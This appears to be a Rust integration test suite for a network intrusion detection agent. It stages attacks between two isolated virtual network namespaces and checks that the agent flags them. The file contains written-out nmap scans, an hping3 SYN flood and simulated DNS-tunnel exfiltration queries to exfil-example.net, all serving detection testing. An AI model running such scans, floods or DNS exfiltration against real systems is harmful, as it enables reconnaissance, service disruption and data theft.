//! Network detection with real tools on a real (virtual) wire: two network namespaces
//! joined by a veth pair. nmap, hping3 and dig attack from one side; tcpdump records
//! what the other side sees (the pcap fixtures are made here, not shipped), and the agent
//! either replays those files or captures live on that side.
//!
//! Needs root, iproute2, tcpdump, nmap, hping3, dig (`.ci/run` installs them); under
//! `CI=true` a missing one is a failure, elsewhere the tests say they skipped.

mod common;

use common::DryRun;
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

const TOOLS: [&str; 5] = ["tcpdump", "nmap", "hping3", "dig", "ip"];

fn ready() -> bool {
    let root = nix::unistd::Uid::effective().is_root();
    let missing: Vec<&str> = TOOLS
        .iter()
        .copied()
        .filter(|tool| {
            !["/usr/bin", "/usr/sbin", "/bin", "/sbin"]
                .iter()
                .any(|dir| Path::new(dir).join(tool).exists())
        })
        .collect();
    if root && missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var("CI").is_err(),
        "CI must run these as root with {missing:?} installed"
    );
    eprintln!("skipped: needs root and {missing:?}");
    false
}

/// Two namespaces joined by a veth pair: `inside` (10.N.0.1, the watched host) and
/// `outside` (10.N.0.2, the attacker). Removed on drop.
struct Wire {
    inside: String,
    outside: String,
    subnet: u32,
}

static NEXT: AtomicU32 = AtomicU32::new(0);

fn ip(args: &[&str]) {
    let status = Command::new("ip").args(args).status().expect("ip");
    assert!(status.success(), "ip {args:?}");
}

impl Wire {
    fn new() -> Self {
        let n = 100 + (std::process::id() % 50) * 2 + NEXT.fetch_add(1, Ordering::Relaxed);
        let subnet = n % 250;
        let (inside, outside) = (format!("vin{n}"), format!("vout{n}"));
        let wire = Self {
            inside: inside.clone(),
            outside: outside.clone(),
            subnet,
        };
        for stale in [&inside, &outside] {
            let _ = Command::new("ip")
                .args(["netns", "del", stale])
                .stderr(Stdio::null())
                .status();
        }
        ip(&["netns", "add", &inside]);
        ip(&["netns", "add", &outside]);
        ip(&[
            "link", "add", "veth-in", "netns", &inside, "type", "veth", "peer", "name", "veth-out",
            "netns", &outside,
        ]);
        for (ns, dev, host) in [(&inside, "veth-in", 1), (&outside, "veth-out", 2)] {
            ip(&[
                "-n",
                ns,
                "addr",
                "add",
                &format!("10.{subnet}.0.{host}/24"),
                "dev",
                dev,
            ]);
            ip(&["-n", ns, "link", "set", dev, "up"]);
            ip(&["-n", ns, "link", "set", "lo", "up"]);
        }
        wire
    }

    fn inside_address(&self) -> String {
        format!("10.{}.0.1", self.subnet)
    }

    fn outside_address(&self) -> String {
        format!("10.{}.0.2", self.subnet)
    }

    /// A command run in a namespace.
    fn run_in(&self, ns: &str, program: &str) -> Command {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", ns, program]);
        command
    }

    /// Runs `program args` on the attacker's side, to completion.
    fn attack(&self, program: &str, args: &[&str]) {
        let output = self
            .run_in(&self.outside, program)
            .args(args)
            .stdin(Stdio::null())
            .output()
            .expect(program);
        assert!(
            output.status.success() || program == "timeout",
            "{program} {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }

    /// Starts tcpdump on the watched side, writing `file`; returns once it listens.
    fn record(&self, file: &Path) -> Child {
        let mut child = self
            .run_in(&self.inside, "tcpdump")
            .args(["-i", "veth-in", "-U", "-Z", "root", "-w"])
            .arg(file)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("tcpdump");
        let stderr = child.stderr.take().expect("stderr");
        let mut lines = BufReader::new(stderr).lines();
        loop {
            match lines.next() {
                Some(Ok(line)) if line.contains("listening on") => break,
                Some(_) => {}
                None => panic!("tcpdump did not start"),
            }
        }
        std::thread::spawn(move || for _ in lines {});
        child
    }
}

impl Drop for Wire {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "del", &self.inside])
            .status();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.outside])
            .status();
    }
}

/// A DNS server on the watched side that answers every question at once with "no such
/// name", so that dig gets its answer without waiting.
fn dns_responder(wire: &Wire) -> Child {
    let script = format!(
        "import socket\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.bind(('{}', 53))\n\
         print('ready', flush=True)\n\
         while True:\n\
         \x20   q, peer = s.recvfrom(4096)\n\
         \x20   if len(q) >= 12:\n\
         \x20       s.sendto(q[:2] + bytes([0x81, 0x83]) + q[4:6] + bytes(6) + q[12:], peer)\n",
        wire.inside_address()
    );
    let mut child = wire
        .run_in(&wire.inside, "python3")
        .args(["-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("dns responder");
    let stdout = child.stdout.take().expect("stdout");
    let mut line = String::new();
    BufReader::new(stdout).read_line(&mut line).expect("ready");
    assert_eq!(line.trim(), "ready");
    child
}

/// A fresh wire and a folder for the test's files, or `None` (skipped) without root or
/// the tools.
fn wire_and_folder() -> Option<(Wire, tempfile::TempDir)> {
    ready().then(|| (Wire::new(), tempfile::tempdir().expect("tempdir")))
}

/// Stops tcpdump cleanly (SIGINT: the file is complete) once it wrote everything.
fn finish(mut tcpdump: Child, file: &Path) {
    // First let it write what the kernel still holds for it (after a flood, seconds of
    // packets): done when the file has stopped growing for half a second.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let size = || std::fs::metadata(file).map_or(0, |m| m.len());
    let (mut last, mut still_since) = (size(), std::time::Instant::now());
    while still_since.elapsed() < std::time::Duration::from_millis(500) {
        assert!(
            std::time::Instant::now() < deadline,
            "tcpdump never caught up"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
        let now = size();
        if now != last {
            (last, still_since) = (now, std::time::Instant::now());
        }
    }
    let pid = nix::unistd::Pid::from_raw(tcpdump.id() as i32);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGINT).expect("sigint");
    tcpdump.wait().expect("wait");
}

/// Replays `pcap`; returns the signals and the figures printed on stderr.
fn replay(pcap: &Path, config: Option<&Path>) -> (Vec<Value>, Value) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_vedetta-agent"));
    command.arg("replay").arg("--pcap").arg(pcap);
    if let Some(config) = config {
        command.arg("--config").arg(config);
    }
    let output = command.output().expect("replay");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let signals = String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).expect("json"))
        .collect();
    let stats = stderr
        .lines()
        .rev()
        .find_map(|line| serde_json::from_str(line).ok())
        .expect("figures");
    (signals, stats)
}

fn of_kind<'a>(signals: &'a [Value], kind: &str) -> Vec<&'a Value> {
    signals.iter().filter(|s| s["kind"] == kind).collect()
}

#[test]
fn scans_floods_and_dns_tunnels_recorded_by_tcpdump_are_found_in_the_pcap() {
    let Some((wire, dir)) = wire_and_folder() else {
        return;
    };
    let pcap = dir.path().join("attacks.pcap");
    let target = wire.inside_address();
    let tcpdump = wire.record(&pcap);
    wire.attack(
        "nmap",
        &["-n", "-Pn", "-sS", "-p", "20-120", "-T5", &target],
    );
    wire.attack(
        "nmap",
        &[
            "-n",
            "-Pn",
            "-sU",
            "-p",
            "160-175",
            "-T5",
            "--max-retries",
            "0",
            &target,
        ],
    );
    wire.attack(
        "nmap",
        &["-n", "-Pn", "-sX", "-p", "1000-1030", "-T5", &target],
    );
    // Data smuggled in DNS questions: long random-looking labels under one domain.
    let mut responder = dns_responder(&wire);
    for n in 1..=30u64 {
        let label = format!(
            "{:016x}{:016x}",
            0x9e37_79b9_7f4a_7c15u64.wrapping_mul(n),
            0xc2b2_ae3d_27d4_eb4fu64.wrapping_mul(n + 7)
        );
        let name = format!("{label}.x.exfil-example.net");
        wire.attack(
            "dig",
            &["+tries=1", "+time=1", &format!("@{target}"), &name, "TXT"],
        );
    }
    let _ = responder.kill();
    let _ = responder.wait();
    // The flood last: tcpdump may not write all of it before it is stopped.
    wire.attack(
        "timeout",
        &["4", "hping3", "--flood", "-S", "-p", "8080", &target],
    );
    finish(tcpdump, &pcap);

    let (signals, stats) = replay(&pcap, None);
    assert_eq!(stats["file"]["corrupt"], Value::Null, "{stats}");
    assert!(stats["decoded"].as_u64() > Some(100), "{stats}");
    let attacker = wire.outside_address();
    let scans = of_kind(&signals, "port_scan");
    let last_of = |scan_type: &str| {
        scans
            .iter()
            .rev()
            .find(|s| s["attributes"]["scan_type"] == scan_type)
            .unwrap_or_else(|| panic!("no {scan_type} scan in {scans:#?}"))
    };
    let syn = last_of("syn");
    assert_eq!(syn["indicators"][0]["value"], attacker);
    assert_eq!(syn["attributes"]["pattern"], "vertical");
    assert_eq!(syn["attributes"]["target"], target);
    assert_eq!(syn["mitre"], "T1046");
    assert!(
        syn["attributes"]["distinct_ports"].as_u64() >= Some(100),
        "{syn:#?}"
    );
    assert!(
        syn["attributes"]["ports"]
            .as_str()
            .is_some_and(|p| p.starts_with("20,21,22,23")),
        "{syn:#?}"
    );
    let udp = last_of("udp");
    assert_eq!(udp["indicators"][0]["value"], attacker);
    assert!(
        udp["attributes"]["ports"]
            .as_str()
            .is_some_and(|p| p.contains("160,161,162,163")),
        "{udp:#?}"
    );
    assert_eq!(last_of("xmas")["indicators"][0]["value"], attacker);

    let floods = of_kind(&signals, "syn_flood");
    let flood = floods.last().expect("syn_flood");
    assert_eq!(flood["attributes"]["target"], target);
    assert_eq!(flood["attributes"]["port"], 8080);
    assert_eq!(flood["indicators"][0]["value"], attacker);

    let tunnels = of_kind(&signals, "dns_tunnel_suspected");
    let tunnel = tunnels.last().unwrap_or_else(|| {
        let kinds: Vec<&Value> = signals.iter().map(|s| &s["kind"]).collect();
        panic!("no dns tunnel: {stats} {kinds:?}")
    });
    assert_eq!(tunnel["indicators"][0]["value"], "exfil-example.net");
    assert!(
        tunnel["attributes"]["txt_queries"].as_u64() >= Some(20),
        "{tunnel:#?}"
    );
}

#[test]
fn truncated_garbage_and_corrupt_captures_are_counted_not_fatal() {
    let dir = tempfile::tempdir().expect("tempdir");
    // A pcap (Ethernet) with a truncated frame, a garbage frame, then a record that
    // claims 4 GiB.
    let mut file = Vec::new();
    file.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
    file.extend_from_slice(&[2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    file.extend_from_slice(&65_535u32.to_le_bytes());
    file.extend_from_slice(&1u32.to_le_bytes());
    let record = |file: &mut Vec<u8>, data: &[u8]| {
        file.extend_from_slice(&[0; 8]);
        file.extend_from_slice(&(data.len() as u32).to_le_bytes());
        file.extend_from_slice(&(data.len() as u32).to_le_bytes());
        file.extend_from_slice(data);
    };
    let mut truncated = vec![0u8; 12];
    truncated.extend_from_slice(&[0x08, 0x00, 0x45, 0x00, 0x00]);
    record(&mut file, &truncated);
    record(&mut file, &[0xff; 64]);
    file.extend_from_slice(&[0; 8]);
    file.extend_from_slice(&u32::MAX.to_le_bytes());
    file.extend_from_slice(&u32::MAX.to_le_bytes());
    file.extend_from_slice(&[0; 32]);
    let pcap = dir.path().join("broken.pcap");
    std::fs::write(&pcap, &file).expect("pcap");
    let (signals, stats) = replay(&pcap, None);
    assert!(signals.is_empty());
    assert_eq!(stats["file"]["packets"], 2, "{stats}");
    assert_eq!(stats["malformed"], 1, "{stats}");
    assert_eq!(stats["not_ip"], 1, "{stats}");
    assert!(stats["file"]["corrupt"].is_string(), "{stats}");
    // Not a capture at all: a clear error.
    let text = dir.path().join("text.pcap");
    std::fs::write(&text, "hello, not a pcap\n").expect("text");
    let output = Command::new(env!("CARGO_BIN_EXE_vedetta-agent"))
        .arg("replay")
        .arg("--pcap")
        .arg(&text)
        .output()
        .expect("replay");
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("not a pcap file"));
}

/// An agent capturing live on the watched side of `wire`.
fn live_agent(wire: &Wire, dir: &Path, advisories: &Path) -> DryRun {
    let config = dir.join("agent.toml");
    std::fs::write(
        &config,
        format!(
            "state_dir = \"{}\"\n[health]\ninterval = \"1h\"\n[privacy]\nshare_internal_addresses = true\n\
             [sources.network]\ninterfaces = [\"veth-in\"]\nadvisories_file = \"{}\"\n",
            dir.join("state").display(),
            advisories.display()
        ),
    )
    .expect("config");
    let mut command = wire.run_in(&wire.inside, env!("CARGO_BIN_EXE_vedetta-agent"));
    command.current_dir(dir);
    let mut agent = DryRun::start_with(command, &config);
    agent.wait_for_log("network source started");
    agent
}

#[test]
fn live_capture_sees_scans_floods_and_advised_addresses_and_not_ordinary_traffic() {
    let Some((wire, dir)) = wire_and_folder() else {
        return;
    };
    let advisories = dir.path().join("advisories.ndjson");
    std::fs::write(&advisories, "").expect("advisories");
    let mut agent = live_agent(&wire, dir.path(), &advisories);
    let (target, attacker) = (wire.inside_address(), wire.outside_address());

    // Ordinary traffic first: a web download and a few DNS lookups.
    let mut server = wire
        .run_in(&wire.inside, "python3")
        .args(["-m", "http.server", "8000", "--bind", &target])
        .current_dir(dir.path())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("http server");
    let download = format!(
        "import time,urllib.request\n\
         for _ in range(100):\n\
         \x20   try:\n\
         \x20       urllib.request.urlopen('http://{target}:8000/agent.toml', timeout=1).read(); break\n\
         \x20   except OSError: time.sleep(0.05)\n\
         else: raise SystemExit('no download')\n"
    );
    wire.attack("python3", &["-c", &download]);
    let mut responder = dns_responder(&wire);
    for name in ["www.example.org", "mail.example.org", "example.net"] {
        wire.attack("dig", &["+tries=1", "+time=1", &format!("@{target}"), name]);
    }
    let _ = server.kill();
    let _ = server.wait();

    // The operations centre flags the attacker's address: its next packet is a match.
    std::fs::write(
        &advisories,
        format!("{{\"type\":\"ip\",\"value\":\"{attacker}\",\"advisory\":\"ADV-TEST-1\",\"severity\":\"critical\"}}\n"),
    )
    .expect("advisory");
    agent.wait_for_log("advisories reloaded");
    wire.attack(
        "dig",
        &[
            "+tries=1",
            "+time=1",
            &format!("@{target}"),
            "after.example.org",
        ],
    );
    let matched = agent.wait_for("ioc_match", |s| s["kind"] == "ioc_match");
    assert_eq!(matched["indicators"][0]["value"], attacker);
    assert_eq!(matched["severity"], "critical");
    assert_eq!(matched["attributes"]["advisory"], "ADV-TEST-1");
    // (The first match may be an answer to the attacker captured just before.)
    assert!(
        ["from", "to"].contains(&matched["attributes"]["direction"].as_str().unwrap_or("")),
        "{matched:#?}"
    );
    // Everything before the match was ordinary: nothing else was raised.
    let before: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|s| s["kind"] != "agent_health" && s["kind"] != "ioc_match")
        .collect();
    assert!(before.is_empty(), "ordinary traffic raised {before:#?}");

    wire.attack("nmap", &["-n", "-Pn", "-sS", "-p", "1-100", "-T5", &target]);
    let scan = agent.wait_for("syn scan", |s| {
        s["kind"] == "port_scan" && s["attributes"]["scan_type"] == "syn"
    });
    assert_eq!(scan["indicators"][0]["value"], attacker);
    wire.attack(
        "nmap",
        &[
            "-n",
            "-Pn",
            "-sU",
            "-p",
            "200-230",
            "-T5",
            "--max-retries",
            "0",
            &target,
        ],
    );
    let scan = agent.wait_for("udp scan", |s| {
        s["kind"] == "port_scan" && s["attributes"]["scan_type"] == "udp"
    });
    assert_eq!(scan["indicators"][0]["value"], attacker);
    wire.attack(
        "timeout",
        &["3", "hping3", "--flood", "-S", "-p", "443", &target],
    );
    let flood = agent.wait_for("syn flood", |s| s["kind"] == "syn_flood");
    assert_eq!(flood["attributes"]["port"], 443);
    assert_eq!(flood["attributes"]["target"], target);
    agent.stop();
    let _ = responder.kill();
    let _ = responder.wait();
}

#[test]
fn capturing_without_the_capability_is_a_clear_error() {
    if !ready() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .expect("chmod");
    let config: PathBuf = dir.path().join("agent.toml");
    std::fs::write(
        &config,
        "state_dir = \"state\"\n[sources.network]\ninterfaces = [\"lo\"]\n",
    )
    .expect("config");
    let output = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            "--",
        ])
        .arg(env!("CARGO_BIN_EXE_vedetta-agent"))
        .args(["run", "--dry-run", "--config"])
        .arg(&config)
        .output()
        .expect("agent");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("CAP_NET_RAW"), "{stderr}");
}
